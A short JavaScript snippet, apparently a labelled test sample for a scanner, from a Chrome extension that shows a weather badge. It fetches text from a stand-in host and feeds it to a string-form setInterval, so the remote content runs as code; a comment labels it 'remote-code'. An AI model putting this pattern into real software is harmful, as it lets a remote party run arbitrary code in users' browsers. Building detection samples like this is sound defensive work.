fetch('https://cdn.weather-bar.example/tick')
  .then((r) => r.text())
  .then((tick) => {
    // expect: remote-code
    setInterval('update(' + tick + ')', 60000);
  });
function update(state) {
  chrome.action.setBadgeText({ text: String(state) });
}
